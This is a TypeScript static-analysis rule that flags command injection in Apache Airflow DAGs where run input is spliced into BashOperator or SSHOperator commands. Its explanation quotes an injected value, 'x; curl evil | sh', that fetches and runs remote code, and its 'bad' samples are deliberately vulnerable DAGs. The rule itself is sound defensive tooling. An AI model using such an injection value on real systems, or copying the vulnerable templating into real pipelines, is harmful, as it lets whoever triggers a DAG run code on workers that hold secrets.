import { AIRFLOW_SHELL_OPERATORS, operatorTemplates, runInputIn } from '../airflow-templated-operators.js';
import type { PythonRule } from '../python-rule.js';

export const airflowTemplatedShell: PythonRule = {
  id: 'py.airflow.templated-shell-command',
  title: 'Airflow shell command templated with run input',
  category: 'sast',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-78'],
  what:
    'Finds BashOperator bash_command and SSHOperator command strings whose Jinja expressions splice dag_run.conf ' +
    '(high confidence), or params, XCom pulls and Variables (medium), into the command text. Values piped through ' +
    'an int or float filter are left alone; commands built in Python are followed by the taint rules instead.',
  why:
    'Airflow renders the template and hands the result to bash. Anyone who may trigger the DAG — through the UI, the ' +
    'REST API or another DAG — chooses dag_run.conf, so a value such as `x; curl evil | sh` runs on the worker with ' +
    'its connections and secrets. Quoting inside the template does not help: the value can close the quote.',
  remediation:
    'Hand values to the command through env= (env={"TABLE": "{{ dag_run.conf[\'table\'] }}"}) and use them quoted ' +
    '("$TABLE"), or check them against an allow-list in a Python task first; declare params with a Param schema ' +
    '(enum or pattern) so that Airflow rejects bad values at trigger time.',
  bad: [
    {
      file: 'dags/load.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.operators.bash import BashOperator\n\n' +
        'with DAG("load", schedule=None) as dag:\n' +
        '    BashOperator(task_id="load", bash_command="load.sh {{ dag_run.conf[\'table\'] }}")\n',
    },
    {
      file: 'dags/export.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.providers.ssh.operators.ssh import SSHOperator\n\n' +
        'with DAG("export", schedule="@daily") as dag:\n' +
        '    SSHOperator(task_id="export", ssh_conn_id="etl", command="export.sh {{ ti.xcom_pull(task_ids=\'pick\') }}")\n',
    },
  ],
  good: [
    {
      file: 'dags/load.py',
      code:
        'from airflow import DAG\n' +
        'from airflow.operators.bash import BashOperator\n\n' +
        'with DAG("load", schedule=None) as dag:\n' +
        '    BashOperator(\n' +
        '        task_id="load",\n' +
        '        bash_command=\'load.sh "$TABLE" {{ ds }} --limit {{ params.limit | int }}\',\n' +
        '        env={"TABLE": "{{ dag_run.conf[\'table\'] }}"},\n' +
        '    )\n',
    },
  ],
  references: [
    'https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html',
    'https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  onCall(call, ctx) {
    for (const { operator, field, node, text } of operatorTemplates(call, ctx, AIRFLOW_SHELL_OPERATORS)) {
      const spliced = runInputIn(text);
      if (!spliced) continue;
      ctx.report(node, {
        message: `${operator} ${field} splices {{ ${spliced.expression} }} into the shell command Airflow runs`,
        confidence: spliced.confidence,
      });
    }
  },
};
